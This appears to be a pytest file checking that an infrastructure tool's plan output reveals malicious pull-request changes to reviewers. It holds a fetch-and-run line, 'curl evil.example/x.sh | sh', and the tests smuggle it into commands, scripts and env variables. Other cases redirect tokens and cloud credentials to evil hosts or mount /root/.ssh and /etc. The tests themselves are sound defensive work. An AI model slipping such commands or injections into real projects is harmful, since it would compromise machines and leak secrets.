"""A plan hides nothing: five of ten pull requests are malicious, and the plan's text alone shows which.

The project runs on this machine. Each pull request makes a change that a reviewer would miss in a plan that
cuts: far to the right, far below, or among many similar lines.
"""

from __future__ import annotations

import re
import subprocess
from typing import Any

import pytest

from declarative.model.status import RankState, RankStatus
from declarative.render.plan import plan_text
from declarative.render.plan_document import plan_json
from tests.support.cli import PATIENCE, Project, fleet, on_terminal, task, volume
from tests.support.model import World
from tests.support.planned import GPU, bring, declared, look

EVIL = "curl evil.example/x.sh | sh"
SCRIPT = "\n".join(f"true step {i}" for i in range(12)) + "\n"
LONG = "python train.py " + " ".join(f"--option-{i}={i}" for i in range(20))
DIGEST = "docker.io/library/python@sha256:" + "a" * 60

Documents = list[dict[str, Any]]


def base() -> Documents:
    """A running project, as it was reviewed and applied."""
    sky = {
        "type": "backend",
        "name": "sky",
        "driver": "openstack",
        "regions": ["east"],
        "endpoint": "https://cloud.good.example",
        "credentials": {"username": "OS_USERNAME", "password": "OS_PASSWORD"},
        "catalog": [{"instance_type": "big", "cpu": 8, "memory": "16GB", "price": 2}],
    }
    trainer = task(
        "train",
        "exec sleep 1000",
        LONG,
        SCRIPT,
        backends=["local"],
        resources={"cpu": 1},
        env={"OPTIONS": LONG, "TOKEN_URL": "https://${{ env.HF_TOKEN }}@hub.good.example"},
        files=["job.py"],
        tags={"owner": "ml"},
        volumes=["data:/data"],
        retry={"on_events": ["error"], "duration": "1h"},
    )
    many = [task(f"many-{i}", "exec sleep 1000", backends=["local"], resources={"cpu": 1}) for i in range(6)]
    return [
        sky,
        fleet("gpu", nodes=5, placement="any", backends=["local"], tags={"team": "ml"}),
        volume("data", backend="local", prevent_destroy=True, tags={"keep": "yes"}),
        trainer,
        *many,
    ]


@pytest.fixture(scope="module")
def running(tmp_path_factory):
    """The project, applied: all its tasks run."""
    found = Project(tmp_path_factory.mktemp("shown"))
    found.declare(*base())
    found.write("job.py", "print(1)\n")
    found.apply(code=4, env=ENV)  # nobody answers at the endpoint
    yield found
    found.clean_up()


ENV = {"HF_TOKEN": "hf-secret"}


def the(documents: Documents, name: str) -> dict[str, Any]:
    return next(d for d in documents if d["name"] == name)


def appended(documents: Documents) -> None:
    """A command, beyond column 100 of a long one."""
    the(documents, "train")["commands"][1] += f"; {EVIL}"


def line_four(documents: Documents) -> None:
    """Line 4 of a script."""
    commands = the(documents, "train")["commands"]
    commands[2] = commands[2].replace("step 3\n", f"step 3; {EVIL}\n")


def variable(documents: Documents) -> None:
    """The end of a long variable."""
    the(documents, "train")["env"]["OPTIONS"] += f" --hook=$({EVIL})"


def host_of_token(documents: Documents) -> None:
    """Where a secret is sent, beside which it stands."""
    the(documents, "train")["env"]["TOKEN_URL"] = "https://${{ env.HF_TOKEN }}@hub.evil.example"


def endpoint(documents: Documents) -> None:
    """Where a cloud's credentials are sent."""
    the(documents, "sky")["endpoint"] = "https://cloud.evil.example"


def tag(documents: Documents) -> None:
    the(documents, "data")["tags"]["keep"] = "no"


def protection(documents: Documents) -> None:
    the(documents, "data")["prevent_destroy"] = False


def mount(documents: Documents) -> None:
    the(documents, "train")["volumes"] = ["data:/root/.ssh"]


def host_folder(documents: Documents) -> None:
    the(documents, "train")["volumes"].append("/etc:/host-etc")


def forever(documents: Documents) -> None:
    the(documents, "train")["retry"] = True


def hidden(documents: Documents) -> None:
    """Another task, behind many that are alike, with a long and harmless beginning."""
    for name in ("many-6", "many-8"):
        documents.append(task(name, "exec sleep 1000", backends=["local"], resources={"cpu": 1}))
    script = "\n".join(["true"] * 40 + [EVIL])
    documents.insert(-1, task("many-7", script, backends=["local"], resources={"cpu": 1}))


PULL_REQUESTS = [
    (appended, [f"  + {LONG}; {EVIL}", f"  - {LONG}"]),
    (line_four, ["  -   true step 3\n", f"  +   true step 3; {EVIL}\n"]),
    (variable, [f'  + "{LONG} --hook=$({EVIL})"', f'  - "{LONG}"']),
    (host_of_token, ["@hub.good.example", "@hub.evil.example"]),
    (endpoint, ["endpoint: https://cloud.evil.example", "OS_PASSWORD"]),
    (tag, ['tags.keep: "yes" → "no"']),
    (protection, ["prevent_destroy: true → false"]),
    (mount, ["/root/.ssh"]),
    (host_folder, ["/host-etc", "/etc"]),
    (forever, ["retry", "1h"]),
    (hidden, [f"          {EVIL}\n", "task/many-7"]),
]


@pytest.mark.slow
@pytest.mark.parametrize(("change", "told"), PULL_REQUESTS, ids=[c.__name__ for c, _ in PULL_REQUESTS])
def test_the_text_of_a_plan_shows_every_change(running, change, told):
    """Off a terminal on one line each, and on a narrow one wrapped."""
    documents = base()
    change(documents)
    running.declare(*documents)
    text = running.run("plan", "--offline", code=None).out
    for part in told:
        assert part in text
    screen = on_terminal(running, "plan", "--offline", env={"NO_COLOR": "1", "COLUMNS": "80"})[1]
    seen = re.sub(r"\s", "", screen)
    assert all(re.sub(r"\s", "", part) in seen for part in told)


@pytest.mark.slow
def test_a_file_that_changed_is_shown(running):
    """By its name: its content is not recorded, the sum of it is."""
    running.declare(*base())
    before = running.run("plan", "--offline").out
    running.write("job.py", "print(2)\n")
    text = running.run("plan", "--offline").out
    running.write("job.py", "print(1)\n")
    assert "No changes." in before
    assert "rank/train-0  # `files` changed: job.py changed (forces replacement)" in text
    assert "1 rank restarts: running now, stopped and started again." in text


@pytest.mark.slow
def test_in_one_file_the_plan_comes_first(project):
    """Output and progress of an apply, and of one that runs again what had ended: that is not stopped."""
    project.declare(fleet(nodes=1), task("job", "true"))

    def together(*args: str) -> str:
        process = project.start("apply", "--auto-approve", *args, stderr=subprocess.STDOUT)
        out: str = process.communicate(timeout=PATIENCE)[0]
        return out

    first = together("--wait")
    assert first.index("Plan: ") < first.index("node/gpu-0: creating…") < first.index("Apply complete")
    again = together("--replace", "task/job", "--wait")
    assert again.index("Plan: ") < again.index("rank/job-0: had ended, removing its record…")
    assert "stopping…" not in again
    assert again.index("Apply complete") < again.index("task/job: succeeded")


@pytest.mark.slow
def test_the_summary_is_there_after_the_pager(project):
    """Also where its reader left it at once."""
    project.declare(fleet(nodes=2), task("job", "true\n" * 60))
    env = {"FLEETFORM_PAGER": "head -1", "NO_COLOR": "1", "LINES": "20"}
    screen = on_terminal(project, "plan", env=env)[1].replace("\r", "")
    assert screen.startswith("Project project, state sqlite:///.fleetform/state.db\nCost: 0.00 USD/h")
    assert screen.endswith("Plan: 4 to create, 0 to update, 0 to delete, 0 to replace.\n")
    assert len(screen.splitlines()) == 3


# ------------------------------------------------------------------------------------ what the planner says

JOB = {"name": "job", "nodes": 2, "resources": {"gpu": 8}}
DATA = {"name": "data", "backend": "sky", "region": "east", "size": "1GB"}


def test_ranks_that_run_restart_and_ended_ones_do_not():
    """Where they keep their blocks as well; `status` says what becomes of those."""
    world = bring(World(), tasks=[JOB])
    found = look(world, tasks=[{**JOB, "commands": ["other"]}])
    assert [(r["status"], r["restart"]) for r in found["reservations"]] == [("kept", True)] * 2
    assert found["summary"] == {
        "create": 0,
        "update": 0,
        "delete": 0,
        "replace": 2,
        "restarts": 2,
        "stops": 0,
    }
    for rank in ("job-0", "job-1"):
        world.end(rank, RankState.SUCCEEDED)
    found = look(world, tasks=[{**JOB, "commands": ["other"]}])
    assert [r["restart"] for r in found["reservations"]] == [False, False]
    assert found["summary"]["restarts"] == 0


def test_a_new_node_is_not_called_replaced():
    """A rank moves to it, and that is why its blocks change."""
    fleets = [{**GPU, "nodes": 1}, {**GPU, "name": "other", "nodes": "0..1"}]
    job = {"name": "job", "resources": {"gpu": 8}}
    world = bring(World(), fleets=fleets, tasks=[{**job, "fleets": ["gpu"]}])
    moved = world.plan(declared(fleets=fleets, tasks=[{**job, "fleets": ["other"]}]))
    text = plan_text(moved, color=False, width=None)
    assert "node/other-0 is replaced" not in text
    assert "-/+ reservation/job-0  # `node` changed" in text
    assert "status\n" in text
    assert plan_json(moved)["summary"]["restarts"] == 1


def test_the_cost_says_that_volumes_are_not_in_it():
    """On this machine and on hosts that exist they cost nothing."""
    tasks = [{"name": "job", "resources": {"gpu": 8}}]
    assert look(World(), tasks=tasks, volumes=[DATA])["cost"]["excludes"] == []
    cloud: Any = {"driver": "openstack", "endpoint": "https://x.example"}
    found = World().plan(declared(tasks=tasks, volumes=[DATA], **cloud))
    assert plan_json(found)["cost"]["excludes"] == ["volumes"]
    assert "USD/h (the least possible); volumes not included\n" in plan_text(found, color=False, width=None)
    assert look(World(), tasks=tasks, **cloud)["cost"]["excludes"] == []


def test_what_an_unplaced_task_would_run_is_shown():
    """A later apply may start it without anybody looking, or a similar task beside it."""
    late = {"resources": {"gpu": 9}, "commands": ["true"]}
    tasks = [{**late, "name": f"late-{i}"} for i in range(3)]
    tasks[1] = {**tasks[1], "commands": [EVIL]}
    plan = World().plan(declared(tasks=tasks))
    text = plan_text(plan, color=False, width=None)
    assert "task/late-[0-2][never-fits]: 3 tasks alike" in text
    assert "  + task/late-1  # not started: no place\n      resources: {gpu: 9}\n" in text
    assert f"        - {EVIL}\n" in text
    assert plan_json(plan)["unplaced"][1]["after"]["commands"] == [EVIL]
    world = bring(World(), tasks=[JOB])
    stuck = world.plan(declared(tasks=[{**JOB, "nodes": 3, "commands": [EVIL]}]))
    text = plan_text(stuck, color=False, width=None)
    assert "-/+ task/job  # runs on as it is: no place to start it anew\n" in text
    assert f"        + {EVIL}\n" in text
    for rank in ("job-0", "job-1"):
        world.ranks[rank] = RankStatus(state=RankState.FAILED, exit_code=1)
    stuck = world.plan(declared(tasks=[{**JOB, "nodes": 3, "commands": [EVIL]}]))
    assert "-/+ task/job  # not started: no place\n" in plan_text(stuck, color=False, width=None)


def test_a_refusal_without_reasons_names_no_cause():
    """Its summary says all: there is nothing to list below `rank 0: cause`."""
    plan = World().plan(declared(fleets=[], tasks=[JOB]))
    text = plan_text(plan, color=False, width=None)
    assert "task/job[never-fits]: " in text
    assert "cause" not in text
